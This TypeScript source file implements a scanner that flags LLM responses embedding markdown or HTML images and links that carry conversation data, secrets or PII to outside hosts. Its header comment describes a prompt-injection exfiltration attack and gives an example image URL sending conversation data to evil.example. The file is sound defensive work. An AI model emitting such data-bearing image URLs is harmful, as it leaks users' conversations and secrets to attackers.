/**
 * Data exfiltration in responses: a markdown/HTML image is fetched by the
 * client as soon as it renders (zero-click), so an injected instruction can
 * make the model emit `![](https://evil.example/p?q=<conversation data>)`.
 * Links need a click and weigh less. A URL is reported when:
 * - its query or path carries data: long or encoded values (base64/hex/%-encoded text),
 * - it carries text from the prompt (3-word shingles of the user/tool messages),
 * - it carries a secret or PII (the secrets and PII detectors run on the decoded URL),
 * - or (option `allowedDomains`) its host is not on the allow-list.
 */
import { positiveInt } from '../options.js'
import type { Finding, ScanContext, Scanner, Severity, StreamScan } from '../types.js'
import { detectPii } from './pii.js'
import { detectSecrets } from './secrets.js'
import { shingleHash, shingleSet, words } from './shingles.js'
import { WindowedStream } from './stream.js'
import { DEFAULT_MAX_SCAN_CHARS, shannonEntropy, type TextMatch } from './util.js'

export interface ExfiltrationOptions {
  /** hosts (and their subdomains) images and links may point to; when set, other hosts are reported */
  allowedDomains?: string[]
  /** a single query value at least this long counts as data; default 32 */
  minValueLength?: number
  maxScanChars?: number
}

const IMAGE_MD = /!\[[^\]\n]{0,300}\]\(\s*<?(https?:\/\/[^\s)>]{1,4096})>?(?:\s+["'][^"'\n]{0,200}["'])?\s*\)/g
const IMAGE_HTML = /<img\b[^>]{0,300}?\bsrc\s*=\s*["']?(https?:\/\/[^"'\s>]{1,4096})/gi
const LINK_MD = /(?<!!)\[[^\]\n]{0,300}\]\(\s*<?(https?:\/\/[^\s)>]{1,4096})>?(?:\s+["'][^"'\n]{0,200}["'])?\s*\)/g
const REF_DEF = /^\s{0,3}\[[^\]\n]{1,100}\]:\s*<?(https?:\/\/[^\s>]{1,4096})/gm

const SHINGLE = 3

function hostAllowed(host: string, allowed: string[]): boolean {
  const h = host.toLowerCase()
  return allowed.some((d) => {
    const a = d.toLowerCase().replace(/^\*\./, '')
    return h === a || h.endsWith(`.${a}`)
  })
}

function safeDecode(s: string): string {
  try {
    return decodeURIComponent(s.replace(/\+/g, ' '))
  } catch {
    return s
  }
}

/** Encoded data: long values of base64/hex/%-encoding with enough entropy. */
function encodedData(v: string, minLen: number): string | undefined {
  if (v.length < minLen) return undefined
  if (/^[A-Za-z0-9+/_=-]+$/.test(v) && shannonEntropy(v) >= 3.5) return `encoded value (${v.length} chars)`
  if (/^[0-9a-fA-F]+$/.test(v) && v.length >= minLen) return `hex value (${v.length} chars)`
  const dec = safeDecode(v)
  if (dec.length >= minLen && /\s/.test(dec)) return `text value (${dec.length} chars)`
  return undefined
}

function maskUrl(u: URL): string {
  const q = [...u.searchParams.keys()].slice(0, 4).map((k) => `${k}=…`).join('&')
  const path = u.pathname.length > 40 ? `${u.pathname.slice(0, 40)}…` : u.pathname
  return `${u.protocol}//${u.host}${path}${q ? `?${q}` : ''}`
}

export function detectExfiltration(text: string, from: number, promptShingles: Set<number>, promptText: string, opts: ExfiltrationOptions): TextMatch[] {
  if (text.indexOf('http', from) < 0) return []
  const out: TextMatch[] = []
  const seen = new Set<number>()
  const scan = (re: RegExp, image: boolean, how: string) => {
    re.lastIndex = from
    for (let m = re.exec(text); m !== null; m = re.exec(text)) {
      if (seen.has(m.index)) continue
      seen.add(m.index)
      const raw = m[1]!
      const r = assessUrl(raw, image, promptShingles, promptText, opts)
      if (!r) continue
      out.push({ kind: r.kind, severity: r.severity, score: r.score, start: m.index, end: m.index + m[0].length, snippet: r.snippet, evidence: `${how}: ${r.reasons.join('; ')}` })
    }
  }
  if (text.indexOf('![', from) >= 0) scan(IMAGE_MD, true, 'markdown image')
  if (/<img/i.test(text)) scan(IMAGE_HTML, true, 'HTML image')
  if (text.indexOf('](', from) >= 0) scan(LINK_MD, false, 'markdown link')
  if (text.indexOf(']:', from) >= 0) scan(REF_DEF, false, 'link reference')
  return out
}

function assessUrl(raw: string, image: boolean, promptShingles: Set<number>, promptText: string, opts: ExfiltrationOptions): { kind: string; severity: Severity; score: number; snippet: string; reasons: string[] } | undefined {
  let u: URL
  try {
    u = new URL(raw)
  } catch {
    return undefined
  }
  const minLen = opts.minValueLength ?? 32
  const reasons: string[] = []
  let kind = ''
  let score = 0
  const decoded = safeDecode(`${u.pathname} ${u.search} ${u.hash}`)
  // secrets / PII inside the URL
  const sensitive = [...detectSecrets(decoded, 0, { generic: false }), ...detectPii(decoded, 0, { kinds: ['email', 'credit_card', 'iban', 'us_ssn', 'phone'] })]
  if (sensitive.length) {
    kind = 'sensitive_data_in_url'
    score = 0.95
    reasons.push(`carries ${[...new Set(sensitive.map((s) => s.kind))].join(', ')}`)
  }
  // text from the prompt inside the URL
  if (promptShingles.size) {
    const parts = [decoded, ...[...u.searchParams.values()].map(b64Text)]
    let hit = 0
    for (const p of parts) {
      const ws = words(p).map((x) => x.w)
      for (let i = 0; i + SHINGLE <= ws.length && hit < 3; i++) if (promptShingles.has(shingleHash(ws, i, SHINGLE))) hit++
    }
    if (hit >= 2) {
      kind ||= 'prompt_data_in_url'
      score = Math.max(score, 0.9)
      reasons.push('carries text from the prompt')
    }
  }
  // long / encoded values
  let total = 0
  for (const [k, v] of u.searchParams) {
    total += k.length + v.length
    const why = encodedData(v, minLen)
    if (why) {
      kind ||= 'data_in_url'
      score = Math.max(score, 0.7)
      reasons.push(`query "${k.slice(0, 20)}" is ${why}`)
      break
    }
  }
  if (!reasons.length && total >= 200) {
    kind = 'data_in_url'
    score = 0.6
    reasons.push(`query of ${total} chars`)
  }
  const longSeg = u.pathname.split('/').find((s) => s.length >= Math.max(minLen, 40) && encodedData(s, Math.max(minLen, 40)))
  if (longSeg) {
    kind ||= 'data_in_url'
    score = Math.max(score, 0.65)
    reasons.push(`path segment is ${encodedData(longSeg, minLen)}`)
  }
  const untrusted = opts.allowedDomains !== undefined && !hostAllowed(u.hostname, opts.allowedDomains)
  if (untrusted) {
    kind ||= 'untrusted_domain'
    score = Math.max(score, image ? 0.6 : 0.4)
    reasons.push(`host ${u.hostname} is not on the allow-list`)
  }
  if (!kind) return undefined
  // a host the user named in the prompt is less suspicious than one the model brought in
  const named = promptText.includes(u.hostname)
  if (named) reasons.push('host appears in the prompt')
  if (!image) score *= 0.8
  const severity: Severity = kind === 'sensitive_data_in_url' ? 'critical' : score >= 0.85 && image && !named ? 'high' : score >= 0.6 && !named ? 'medium' : 'low'
  return { kind, severity, score: named ? score * 0.7 : score, snippet: maskUrl(u), reasons }
}

function b64Text(v: string): string {
  if (v.length < 16 || !/^[A-Za-z0-9+/_=-]+$/.test(v)) return ''
  const d = Buffer.from(v.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('utf8')
  return /^[\x20-\x7e\s\u00a0-\uffff]*$/.test(d) && !d.includes('\uFFFD') ? d : ''
}

/** Scans the streamed response for images and links that carry data out. */
export class ExfiltrationScanner implements Scanner {
  readonly name = 'exfiltration'
  private readonly maxChars: number
  constructor(private readonly opts: ExfiltrationOptions = {}) {
    this.maxChars = positiveInt('exfiltration.maxScanChars', opts.maxScanChars) ?? DEFAULT_MAX_SCAN_CHARS
  }
  startResponse(ctx: ScanContext): StreamScan {
    const contents = (Array.isArray(ctx?.messages) ? ctx.messages : [])
      .filter((m) => m && m.role !== 'assistant' && typeof m.content === 'string')
      .map((m) => m.content.slice(0, 64 * 1024))
    // the prompt text and its shingles are built only once the response contains a link or image (most do not)
    let prompt: string | undefined
    let shingles: Set<number> | undefined
    const detect = (t: string, from: number) => {
      if (t.indexOf('http', from) < 0) return []
      prompt ??= contents.join('\n')
      shingles ??= shingleSet(prompt, SHINGLE, 20_000)
      return detectExfiltration(t, from, shingles, prompt, this.opts)
    }
    return new WindowedStream(this.name, detect, { lookback: 4400, settle: 0, maxChars: this.maxChars })
  }
}
